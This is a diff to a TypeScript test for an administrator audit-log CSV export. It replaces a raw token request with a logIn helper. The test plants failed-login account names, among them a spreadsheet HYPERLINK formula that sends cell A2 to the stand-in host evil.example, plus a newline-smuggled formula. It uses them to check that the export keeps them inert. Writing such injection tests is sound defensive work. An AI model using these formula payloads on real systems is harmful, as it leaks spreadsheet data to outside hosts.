@@ -1,7 +1,7 @@
 import { ACCOUNT_PATHS, type AuditPage } from '../../../src/shared/accounts.types';
-import { signIn, type EditorClient } from '../authoring/support/editor-client';
+import { logIn, signIn, type EditorClient } from '../support/sign-in';
 import { FORMULA_START, readCsv } from '../support/csv-reader';
-import { expectErrorBody, postForm } from '../support/http-client';
+import { expectErrorBody } from '../support/http-client';
 import type { SqlValue } from '../support/test-engine';
 import type { TestServer } from '../support/test-server';
 import { startAccountsServer } from './support/accounts-server';
@@ -136,13 +136,7 @@ describe('audit log for administrators', () => {
   it('keeps account names typed at a failed sign-in inert and on one row each', async () => {
     const planted = ['=HYPERLINK("http://evil.example/?"&A2,"開啟")', 'nobody\n=1+2'];
     for (const account of planted) {
-      const login = await postForm(`${server.baseUrl}/backend/oauth/token`, {
-        account,
-        password: 'wrong',
-        'g-recaptcha-response': '',
-        grant_type: 'password',
-      });
-      expect(login.status).toBe(401);
+      expect((await logIn(server, account, 'wrong')).status).toBe(401);
     }
     const response = await fetch(`${server.baseUrl}${ACCOUNT_PATHS.auditCsv}?action=login.failure`, {
       headers: { access_token: admin.token },
